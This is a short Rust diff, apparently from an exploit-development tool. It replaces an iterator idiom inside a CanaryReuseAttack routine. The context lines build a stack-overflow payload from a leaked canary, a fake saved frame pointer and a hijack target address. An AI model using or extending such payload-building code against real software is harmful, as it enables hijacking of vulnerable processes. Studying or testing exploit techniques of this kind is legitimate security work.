@@ -50,7 +50,7 @@ impl CanaryReuseAttack {
             if leaked.len() >= canary_end {
                 payload.extend_from_slice(&leaked[canary_start..canary_end]);
             } else {
-                payload.extend(std::iter::repeat(0u8).take(geometry.canary_region_len));
+                payload.extend(std::iter::repeat_n(0u8, geometry.canary_region_len));
             }
             payload.extend_from_slice(&[0x41u8; 8]); // saved %rbp
             payload.extend_from_slice(&hijack_target.to_le_bytes());
